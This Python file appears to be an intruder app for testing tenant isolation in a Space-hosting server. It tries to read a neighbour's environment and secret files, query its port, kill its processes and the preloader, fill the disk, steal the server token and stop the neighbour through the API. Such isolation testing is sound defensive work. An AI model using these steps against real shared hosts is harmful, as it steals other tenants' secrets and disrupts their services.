"""Tries every attack of issue "Safe to share" against a neighbour Space and the server; each
result is true when the attack succeeded. Targets come in the query string (what an attacker
who knows the layout of a spacerunner server would aim at)."""

import contextlib
import json
import os
import signal
import socket
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

MARK = "SPACE_REPO_NAME=neighbour"


def neighbour_pids() -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            with contextlib.suppress(OSError), open(f"/proc/{entry}/environ", "rb") as handle:
                if MARK.encode() in handle.read().split(b"\0"):
                    found.append(int(entry))
    return found


def read(path: str) -> bool:
    try:
        with open(path, "rb") as handle:
            return len(handle.read()) > 0
    except OSError:
        return False


def attack(q: dict[str, str]) -> dict[str, object]:
    results: dict[str, object] = {}
    results["environ"] = bool(neighbour_pids())
    results["read_folder"] = read(os.path.join(q["folder"], "secret.txt"))
    results["read_data"] = read(os.path.join(q["data"], "kept.txt"))
    try:
        with socket.create_connection(("127.0.0.1", int(q["port"])), 3) as sock:
            sock.sendall(b"GET /env HTTP/1.0\r\n\r\n")
            answer = b""
            while chunk := sock.recv(65536):
                answer += chunk
            results["direct_port"] = b"neighbour" in answer
    except OSError:
        results["direct_port"] = False
    try:
        os.kill(int(q["victim"]), signal.SIGTERM)
        results["signal_other"] = True
    except OSError:
        results["signal_other"] = False
    written = 0
    path = "/tmp/intruder-fill"
    try:
        with open(path, "wb") as handle:
            for _ in range(int(q["fill_mb"])):
                handle.write(b"\0" * (1 << 20))
                handle.flush()
                written += 1
            os.fsync(handle.fileno())
    except OSError:
        pass
    finally:
        with contextlib.suppress(OSError):
            os.unlink(path)
    results["disk_past_limit"] = written >= int(q["fill_mb"])
    killed = False
    for pid in neighbour_pids():
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
            killed = True
    results["kill_neighbour"] = killed
    token = None
    with contextlib.suppress(OSError, ValueError), open(q["server_json"]) as handle:
        token = json.load(handle)["token"]
    results["server_token"] = token is not None
    try:
        request = urllib.request.Request(
            f"http://127.0.0.1:{q['serve_port']}/api/spaces/neighbour/stop",
            method="POST",
            headers={"Authorization": f"Bearer {token or 'guess'}"},
        )
        with urllib.request.urlopen(request, timeout=5) as answer:
            results["api_stop"] = answer.status == 200
    except OSError:
        results["api_stop"] = False
    results["kill_preloader"] = False
    if q.get("preloader"):  # the process every preloaded app is forked from
        with contextlib.suppress(OSError):
            os.kill(int(q["preloader"]), signal.SIGKILL)
            results["kill_preloader"] = True
    results["uid"] = os.getuid()
    return results


class Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        url = urlsplit(self.path)
        query = {k: v[0] for k, v in parse_qs(url.query).items()}
        body = json.dumps(attack(query) if url.path == "/attack" else {"ok": True}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


port = int(os.environ.get("PORT", "7860"))
ThreadingHTTPServer(
    (os.environ.get("GRADIO_SERVER_NAME", "127.0.0.1"), port), Handler
).serve_forever()
